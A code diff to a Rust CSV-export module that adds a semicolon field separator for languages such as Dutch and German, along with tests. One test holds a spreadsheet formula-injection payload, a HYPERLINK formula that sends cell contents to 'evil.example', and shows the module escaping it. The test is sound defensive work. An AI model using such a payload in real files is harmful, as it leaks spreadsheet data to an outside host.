@@ -1,6 +1,7 @@
 //! CSV files for spreadsheet programs, one way for every CSV toolkit writes: UTF-8 with a
-//! byte-order mark (so that accented letters read right), CRLF line ends (RFC 4180), and no cell
-//! that a spreadsheet would run as a formula.
+//! byte-order mark (so that accented letters read right), CRLF line ends (RFC 4180), the field
+//! separator the spreadsheet programs of the page's language expect (a semicolon where the comma
+//! is the decimal mark, as in Dutch Excel), and no cell that a spreadsheet would run as a formula.
 
 use std::borrow::Cow;
 
@@ -20,17 +21,40 @@ pub fn cell(text: &str) -> Cow<'_, str> {
     }
 }
 
+/// The languages whose spreadsheet programs (Excel with the regional settings of the country)
+/// write the decimal mark as a comma and so separate CSV fields with a semicolon. A file with
+/// commas opens in one column there. Matched on the language's first subtag: `nl`, `nl-BE`.
+const SEMICOLON_LANGUAGES: &[&str] = &[
+    "nl", "de", "fr", "es", "it", "pt", "da", "sv", "nb", "nn", "no", "fi", "is", "pl", "cs", "sk",
+    "sl", "hr", "hu", "ro", "bg", "ru", "uk", "el", "tr", "et", "lv", "lt", "id",
+];
+
+/// The field separator of CSV files for a language: `;` for [`SEMICOLON_LANGUAGES`], else `,`.
+pub fn separator(lang: &str) -> u8 {
+    let primary = lang
+        .split(['-', '_'])
+        .next()
+        .unwrap_or("")
+        .to_ascii_lowercase();
+    if SEMICOLON_LANGUAGES.contains(&primary.as_str()) {
+        b';'
+    } else {
+        b','
+    }
+}
+
 /// A CSV file being written row by row, every cell passed through [`cell`].
 pub struct Sheet {
     writer: csv::Writer<Vec<u8>>,
 }
 
 impl Sheet {
-    /// An empty sheet: just the byte-order mark.
-    pub fn new() -> Sheet {
+    /// An empty sheet for readers of `lang` (see [`separator`]): just the byte-order mark.
+    pub fn for_language(lang: &str) -> Sheet {
         let out = Vec::from("\u{feff}".as_bytes());
         Sheet {
             writer: csv::WriterBuilder::new()
+                .delimiter(separator(lang))
                 .terminator(csv::Terminator::CRLF)
                 .from_writer(out),
         }
@@ -51,12 +75,6 @@ impl Sheet {
         self.writer
             .into_inner()
             .map_err(|e| csv::Error::from(e.into_error()))
-    }
-}
-
-impl Default for Sheet {
-    fn default() -> Sheet {
-        Sheet::new()
     }
 }
 
@@ -89,7 +107,7 @@ mod tests {
 
     #[test]
     fn a_sheet_has_a_bom_crlf_quoting_and_safe_cells() {
-        let mut sheet = Sheet::new();
+        let mut sheet = Sheet::for_language("en");
         sheet.row(["name", "action"]).unwrap();
         sheet
             .row([
@@ -103,5 +121,21 @@ mod tests {
             String::from_utf8(bytes).unwrap(),
             "\u{feff}name,action\r\n\"Team, manager\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\r\n'-,\r\n"
         );
+    }
+
+    #[test]
+    fn dutch_and_german_sheets_separate_with_semicolons_and_quote_them() {
+        for lang in ["nl", "nl-BE", "de", "fr_FR"] {
+            let mut sheet = Sheet::for_language(lang);
+            sheet.row(["Naam", "Actie; nu", "1,5 dag"]).unwrap();
+            assert_eq!(
+                sheet.finish().unwrap(),
+                "\u{feff}Naam;\"Actie; nu\";1,5 dag\r\n".as_bytes(),
+                "{lang}"
+            );
+        }
+        for lang in ["en", "en-GB", "ja", ""] {
+            assert_eq!(separator(lang), b',', "{lang}");
+        }
     }
 }
